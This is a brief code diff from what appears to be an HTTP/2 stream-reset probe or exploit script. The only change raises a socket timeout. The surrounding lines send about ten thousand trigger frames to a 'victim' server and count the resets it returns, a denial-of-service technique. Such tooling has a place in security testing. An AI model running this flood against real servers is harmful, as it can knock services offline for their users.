@@ -74,7 +74,7 @@ def made_you_reset(victim, check):
         in_pieces(connection, [trigger(id) for id in range(1, 20_000, 2)])
         # Some servers forgive one; none may work on ten thousand.
         connection.send(frame(h2.PING, 0, 0, b"the last"))
-        connection.socket.settimeout(10)
+        connection.socket.settimeout(60)
         frames = connection.rest()
         resets = sum(1 for kind, _, _, _ in frames if kind == h2.RST_STREAM)
         answers = sum(1 for kind, _, _, _ in frames if kind == h2.HEADERS)
